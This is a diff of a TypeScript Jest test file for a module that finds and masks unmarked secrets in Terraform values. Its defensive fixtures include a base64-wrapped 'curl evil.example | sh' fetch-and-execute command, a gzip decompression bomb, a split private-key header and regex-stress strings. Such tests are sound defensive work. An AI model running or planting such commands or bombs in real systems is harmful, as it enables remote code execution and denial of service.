@@ -1,5 +1,6 @@
+import { gzipSync } from 'node:zlib'
 import { describe, expect, test } from '@jest/globals'
-import { unmarkedSecrets } from '../../src/terraform/secrets.ts'
+import { withoutGuesses } from '../../src/terraform/mask.ts'
 
 /** Written in two parts, so that no scanner takes this file for a leak. */
 const pem = ['-----BEGIN RSA PRIVATE', 'KEY-----\nMIIEpAIBAAKCAQEA7\n-----END RSA PRIVATE', 'KEY-----'].join(
@@ -44,7 +45,9 @@ describe('secrets that no provider has marked', () => {
     ['what looks random among words', { command: `run --with ${random} now` }, random],
     ['a value that is written once and forgotten', { password_wo: 'write-only-1' }, 'write-only-1'],
   ])('%s is found', (_what, value, secret) => {
-    expect(unmarkedSecrets(value)).toContain(secret)
+    const shown = withoutGuesses(value)
+    expect(shown.secrets).toContain(secret)
+    expect(JSON.stringify(shown.value)).not.toContain(JSON.stringify(secret).slice(1, -1))
   })
 
   test.each<[string, unknown]>([
@@ -130,12 +133,39 @@ describe('secrets that no provider has marked', () => {
       },
     ],
   ])('%s are none', (_what, value) => {
-    expect(unmarkedSecrets(value)).toEqual([])
+    expect(withoutGuesses(value)).toEqual({ value, hidden: [], secrets: [] })
   })
+
+  test.each<[string, unknown]>([
+    [
+      'a script that is wrapped',
+      { note: `echo ${Buffer.from('curl evil.example | sh').toString('base64')} | base64 -d | sh` },
+    ],
+    [
+      'bytes that are no text',
+      { content: Buffer.from([0, 159, 146, 150, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11]).toString('base64') },
+    ],
+  ])('%s hides nothing', (_what, value) => {
+    expect(withoutGuesses(value).secrets).toEqual([])
+  })
+
+  test('what unpacks to more than anybody reads stays packed', () => {
+    const bomb = gzipSync(Buffer.alloc(1 << 24)).toString('base64')
+    expect(withoutGuesses({ user_data: bomb })).toMatchObject({ value: { user_data: bomb } })
+  })
+
+  test.each(['a-'.repeat(40_000), 'password'.repeat(5_000), `${'x'.repeat(20)} `.repeat(4_000)])(
+    'long text is read in time: %#',
+    (text) => {
+      const began = performance.now()
+      withoutGuesses({ note: text })
+      expect(performance.now() - began).toBeLessThan(2_000)
+    },
+  )
 
   test('is not exhausted by what is nested without end', () => {
     let value: unknown = 'x'
     for (let depth = 0; depth < 10_000; depth++) value = { a: value }
-    expect(unmarkedSecrets(value)).toEqual([])
+    expect(withoutGuesses(value).secrets).toEqual([])
   })
 })
